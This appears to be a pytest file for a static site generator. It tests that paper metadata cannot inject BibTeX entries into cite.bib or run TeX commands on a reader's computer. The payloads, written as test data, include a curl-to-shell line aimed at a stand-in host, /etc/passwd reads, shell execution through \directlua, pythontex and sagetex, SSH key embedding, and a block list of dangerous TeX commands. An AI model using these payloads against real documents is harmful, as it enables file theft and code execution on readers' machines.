"""cite.bib: a record's text stays inside its own field, whatever braces it holds.

A paper's ``cite.bib`` is generated from its fields. A title, author name, venue,
category or DOI whose braces are as many but do not nest (``}, note={x}, y={``) would
close its field early and write fields, or whole entries, of its own into the file that
readers import into their reference managers.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import bibtexparser
import pytest

from generator.bibtex import inert
from tests.hostile.harness import Built, run_build, write_site

PAYLOADS = [
    "}, note={injected}, x={",
    "}}@misc{evil,title={Pwned}}@comment{{",
    "}} , note={injected} , x={{",
    "Ends in a backslash \\",
    "\\}}, note={injected}, x={{",  # balanced if `\}` is skipped, as bibtexparser does
    "{}}{{}",
]
FIELDS = {"title", "author", "year", "month", "howpublished", "journal", "booktitle", "eprint",
          "archiveprefix", "primaryclass", "doi", "url"}  # fmt: skip


def q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def closes_at_end(braced: str) -> bool:
    """Whether ``{…}`` closes at its last character, as BibTeX reads it (every brace counts)."""
    depth = 0
    for index, char in enumerate(braced):
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth <= 0:
            return index == len(braced) - 1
    return False


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_field_cannot_end_its_entry_or_start_another(payload: str, tmp_path: Path) -> None:
    p = q(payload)
    doi = q("10.5555/" + "".join(payload.split()))
    site = write_site(
        tmp_path,
        {"site.yaml": "title: T\nbuild_date: 2026-11-28\nbase_url: https://user.github.io/r/\n",
         "content/authors/ada.yaml": "name: Ada Lovelace\n",
         "content/papers/one.md": f"---\ntitle: {q('Title ' + payload)}\n"
         f"authors: [Ada Lovelace, {p}]\ndate: 2024-05-01\nvenue: {p}\ncategory: {p}\n"
         f"arxiv_id: 2405.01234\ndoi: {doi}\n---\nx\n"},
    )  # fmt: skip
    built = run_build(site)
    assert built.status == 0, built.stderr
    text = (built.out / "papers/one/cite.bib").read_text("utf-8")
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks, text
    [entry] = library.entries  # one entry, no other smuggled in
    assert entry.key == "lovelace2024title", text
    assert {f.key for f in entry.fields} <= FIELDS, text
    assert entry.fields_dict["url"].value == "https://user.github.io/r/papers/one/", text
    assert closes_at_end(text[text.index("{") :].rstrip()), text
    # Each value closes where it ends, on its own line.
    assert all(closes_at_end(line[line.index("= ") + 2 :].rstrip(",")) for line in
               text.splitlines()[1:-1] if "= {" in line), text  # fmt: skip


def test_braces_that_nest_are_kept(tmp_path: Path) -> None:
    site = write_site(
        tmp_path,
        {"site.yaml": "title: T\nbuild_date: 2026-11-28\n",
         "content/authors/ada.yaml": "name: Ada Lovelace\n",
         "content/papers/one.md": "---\ntitle: \"The {BERT} Model and \\\\{sets\\\\}\"\n"
         "authors: [Ada Lovelace, \"{OpenAI} Team\"]\ndate: 2024-05-01\n---\nx\n"},
    )  # fmt: skip
    built = run_build(site)
    assert built.status == 0, built.stderr
    text = (built.out / "papers/one/cite.bib").read_text("utf-8")
    assert "title = {{The {BERT} Model and \\{sets\\}}}" in text
    assert "author = {Ada Lovelace and {OpenAI} Team}" in text


# What a reader's LaTeX must never meet as a command when it compiles a bibliography made
# from cite.bib: reading, writing or running files and programs, and spelling a command
# some other way. (A list of its own, not the generator's.)
TEX_ACTIONS = {"input", "include", "write", "immediate", "openout", "openin", "read",
               "csname", "catcode", "directlua", "def", "let", "usepackage"}  # fmt: skip


def tex_commands(text: str) -> list[str]:
    """The control words TeX reads in ``text`` (``\\\\`` is a control symbol; ``%`` a comment)."""
    words, i = [], 0
    while i < len(text):
        if text[i] == "%":
            i = text.find("\n", i) % (len(text) + 1) + 1
        elif text[i] == "\\" and i + 1 < len(text):
            j = i + 1
            while j < len(text) and (text[j].isalpha() or text[j] == "@"):
                j += 1
            words.append(text[i + 1 : j].strip("@") or text[i + 1])
            i = max(j, i + 2)
        else:
            i += 1
    return words


def two_cite_bibs(tmp_path: Path, fields: str, own: str) -> tuple[Built, dict[str, str]]:
    """Build a site whose paper `one` has the front matter lines ``fields`` and whose paper
    `two` carries ``own`` as its own BibTeX entry: the build, and each one's cite.bib."""
    site = write_site(
        tmp_path,
        {"site.yaml": "title: T\nbuild_date: 2026-11-28\n",
         "content/authors/ada.yaml": "name: Ada Lovelace\n",
         "content/papers/one.md": f"---\n{fields}date: 2024-05-01\n---\nx\n",
         "content/papers/two.md": f"---\ntitle: Own\nauthors: [Ada Lovelace]\ndate: 2024\n"
         f"bibtex: {q(own)}\n---\nx\n"},
    )  # fmt: skip
    built = run_build(site)
    assert built.status == 0, built.stderr
    return built, {
        slug: (built.out / f"papers/{slug}/cite.bib").read_text("utf-8") for slug in ("one", "two")
    }


def test_tex_that_would_act_on_a_readers_computer_is_shown_as_text(tmp_path: Path) -> None:
    own = (
        "@misc{own2024,\n  title = {\\begin{filecontents*}[overwrite]{main.tex}x"
        "\\end{filecontents*}},\n  note = {\\@@input /etc/passwd \\catcode`\\|=0 |input x"
        ' \\directlua{os.execute("sh")} \\begin%\n{filecontents}}\n}'
    )
    built, cite_bibs = two_cite_bibs(
        tmp_path,
        "title: 'Engines \\input{/etc/passwd} and "
        "\\immediate\\write18{curl evil.example | sh} on \\\"{o} and $\\alpha$'\n"
        "authors: [Ada Lovelace, 'Eve \\csname input\\endcsname{x}']\n"
        "venue: '^^5cinput{/etc/passwd}'\n",
        own,
    )
    for slug, text in cite_bibs.items():
        assert not TEX_ACTIONS & set(tex_commands(text)), text
        assert "^^" not in text and not re.search(r"\\begin\s*(?:%|\{filecontents)", text), text
        assert not bibtexparser.parse_string(text).failed_blocks, text
        # The page shows the same entry, as text.
        shown = built.pages()[f"papers/{slug}/index.html"].all_text()
        assert text.strip() in shown
    one = cite_bibs["one"]
    # Shown as what was written; LaTeX a title needs is kept as it is.
    assert "\\textbackslash{}input{/etc/passwd}" in one
    assert '\\"{o} and $\\alpha$' in one
    # The page itself shows the title as written.
    assert "Engines \\input{/etc/passwd}" in built.pages()["papers/one/index.html"].all_text()


@pytest.mark.parametrize(
    "payload",
    [
        "\\begin{input}{/etc/passwd}",  # \begin{X} runs \X
        "\\end{input}",  # \end{X} runs \endX
        "\\begin{%\nfilecontents}[overwrite]{main.tex}x\\end{filecontents}",
        "\\begin{\\detokenize{filecontents}}{main.tex}x\\end{filecontents}",
        "\\begin{VerbatimOut}{main.tex}x\\end{VerbatimOut}",
        "\\UseName{input}{/etc/passwd}",
        "\\csuse{input}{/etc/passwd}",
        "\\makeatletter\\@nameuse{input}{/etc/passwd}",
        "\\ExplSyntaxOn\\use:c{input}{/etc/passwd}",
    ],
)
def test_a_command_named_by_text_is_shown_as_text(payload: str, tmp_path: Path) -> None:
    """Ways to run `\\input` (or write a file) without writing `\\input` in cite.bib."""
    own = f"@misc{{own2024,\n  title = {{Own}},\n  note = {{{payload}}}\n}}"
    _, cite_bibs = two_cite_bibs(
        tmp_path, f"title: {q('Engines ' + payload)}\nauthors: [Ada Lovelace]\n", own
    )
    naming = {"begin", "end", "UseName", "csuse", "nameuse", "makeatletter", "ExplSyntaxOn"}
    for text in cite_bibs.values():
        assert not (TEX_ACTIONS | naming) & set(tex_commands(text)), text
        assert not bibtexparser.parse_string(text).failed_blocks, text


def test_an_environment_written_plainly_is_kept() -> None:
    text = "\\begin{math}x^2\\end{math} \\beginning"
    assert inert(text) == text


@pytest.mark.parametrize(
    "payload",
    [
        "\\import{/etc/}{passwd}",  # import
        "\\subfile{/etc/passwd}",  # subfiles
        "\\includestandalone{/home/me/draft}",  # standalone
        "\\includesvg{/home/me/figure}",  # svg
        "\\csvautotabular{/etc/passwd}",  # csvsimple
        "\\DTLloaddb{db}{/etc/passwd}",  # datatool
        "\\pgfplotstableread{/etc/passwd}\\table",  # pgfplotstable
        '\\addplot gnuplot {system("sh")};',  # pgfplots: gnuplot runs through the shell
        "\\tikzexternalize",  # runs pdflatex again through the shell
        "\\externaldocument{/home/me/thesis}",  # xr
        "\\loadglsentries{/etc/passwd}",  # glossaries
        "\\addbibresource{/home/me/private.bib}",  # biblatex
        "\\embedfile{/home/me/.ssh/id_rsa}",  # embedfile: the file goes into the PDF
        "\\textattachfile{/home/me/.ssh/id_rsa}{x}",  # attachfile
        "\\BVerbatimInput{/etc/passwd}",  # fancyvrb
        "\\py{__import__('os').system('sh')}",  # pythontex
        "\\begin{sagesilent}os.system('sh')\\end{sagesilent}",  # sagetex
        "\\pdfcatalog{/OpenAction << /S /JavaScript /JS (app.alert(1)) >>}",  # PDF JavaScript
        "\\pdfextension catalog{/OpenAction 1 0 R}",  # the same in LuaTeX
    ],
)
def test_package_commands_that_read_files_or_run_code_are_shown_as_text(payload: str) -> None:
    """Commands of common packages act as `\\input` or `\\write18` do, when a reader's
    document loads the package; in a cite.bib they are shown as text."""
    shown = inert(f"@misc{{x,\n  note = {{{payload}}}\n}}")
    first = payload[1:].split("\\")[0]  # the command, up to the next one
    assert "\\textbackslash{}" + first in shown, shown
    assert not bibtexparser.parse_string(shown).failed_blocks, shown
